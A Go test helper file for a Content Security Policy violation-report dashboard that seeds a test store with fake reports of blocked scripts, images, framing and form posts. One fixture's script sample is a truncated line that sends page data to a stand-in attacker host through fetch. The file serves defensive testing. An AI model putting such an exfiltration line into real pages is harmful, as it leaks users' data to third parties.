package dash_test

import (
	"crypto/sha256"
	"fmt"
	"time"

	"github.com/merlon-sec/merlon/cmd/merlon/internal/store"
	"github.com/merlon-sec/merlon/report"
)

// hit stores a report a number of times.
func (r *rig) hit(h store.Hit, times int, d report.Disposition) {
	r.t.Helper()
	var b store.Batch
	h = r.complete(h)
	h.Disposition = d
	for range times {
		b.Add(h)
	}
	r.commit(&b)
}

// complete gives what the test left out an ordinary value.
func (r *rig) complete(h store.Hit) store.Hit {
	if h.Site == "" {
		h.Site = "shop.example"
	}
	if h.Route == "" {
		h.Route = "/"
	}
	sum := sha256.Sum256(fmt.Appendf(nil, "%q %q %q %q", h.Directive, h.Class, h.Blocked, h.Sample))
	h.Type, h.Fingerprint = report.TypeViolation, store.Fingerprint{Version: 1, Sum: [16]byte(sum[:16])}
	h.At = r.clock.Now()
	return h
}

func (r *rig) commit(b *store.Batch) {
	r.t.Helper()
	if err := r.store.Commit(r.t.Context(), b); err != nil {
		r.t.Fatal(err)
	}
}

// body is a report in JSON, as the collector keeps it.
func body(document, directive, blocked, policy string) func() string {
	return func() string {
		return fmt.Sprintf(`{"schema":1,"type":"csp-violation","document":%q,"directive":%q,"disposition":"enforce","blocked":%q,"policy":%q,"verdict":"actionable"}`,
			document, directive, blocked, policy)
	}
}

const strictPolicy = "default-src 'self'; script-src 'nonce-*' 'strict-dynamic'; img-src 'self' data:; form-action 'self'; frame-ancestors 'none'"

// realistic fills the store with what a site in trial collects, over a day and a half.
func (r *rig) realistic() {
	r.t.Helper()
	inline := store.Hit{Directive: "script-src-elem", Class: "inline", Blocked: "inline", Sample: `fetch("https://attacker.example/?"+documen`, Route: "/search",
		Browser: "chrome 142", Policy: "a1b2", Body: body("https://shop.example/search", "script-src-elem", "inline", "a1b2")}
	image := store.Hit{Directive: "img-src", Class: "origin", Blocked: "https://images.example", Browser: "firefox 146", App: "v41",
		Body: body("https://shop.example/", "img-src", "https://images.example/cat.png", "a1b2")}
	framed := store.Hit{Route: "/transfer", Directive: "frame-ancestors", Class: "frame-ancestors", Blocked: "https://attacker.example", Browser: "chrome 142",
		Body: body("https://shop.example/transfer", "frame-ancestors", "", "a1b2")}
	form := store.Hit{Site: "blog.example", Directive: "form-action", Class: "origin", Blocked: "https://collect.example:8443", Network: 9}
	r.spread(image, 1200, 90, 70, report.ReportOnly)
	r.spread(inline, 12, 5, 0, report.ReportOnly)
	r.clock.Advance(36 * time.Hour)
	image.Route, image.Browser = "/products/{id}", "chrome 142"
	r.spread(image, 34, 20, 30, report.DispositionUnknown)
	r.clock.Advance(3 * time.Minute)
	r.spread(inline, 14, 4, 0, report.Enforce)
	r.hit(form, 2, report.Enforce)
	r.clock.Advance(time.Minute)
	r.spread(framed, 131, 12, 15, report.Enforce)
	var b store.Batch
	b.Policy("shop.example", "a1b2", strictPolicy, r.clock.Now())
	b.Documents("shop.example", "/", "a1b2", r.clock.Now().Add(-36*time.Hour), 48000)
	b.Documents("shop.example", "/products/{id}", "a1b2", r.clock.Now(), 12000)
	b.Canaries("shop.example", "chrome", r.clock.Now(), 200, 188)
	b.Canaries("shop.example", "safari", r.clock.Now(), 40, 0)
	b.Drop("shop.example", "foreign", r.clock.Now(), 1200)
	b.Drop("", "not-json", r.clock.Now(), 5)
	r.commit(&b)
	r.clock.Advance(30 * time.Second)
}

// spread stores reports of many networks, and of page views that are proven.
func (r *rig) spread(h store.Hit, times, networks, views int, d report.Disposition) {
	r.t.Helper()
	var b store.Batch
	h = r.complete(h)
	h.Disposition = d
	for i := range times {
		h.Network, h.View = spot(i%networks), 0
		if views > 0 {
			h.View = spot(1000 + i%views)
		}
		b.Add(h)
	}
	r.commit(&b)
}

// spot is a hash for a number, spread as those of networks are.
func spot(i int) uint64 { return uint64(i+1) * 0x9e3779b97f4a7c15 }
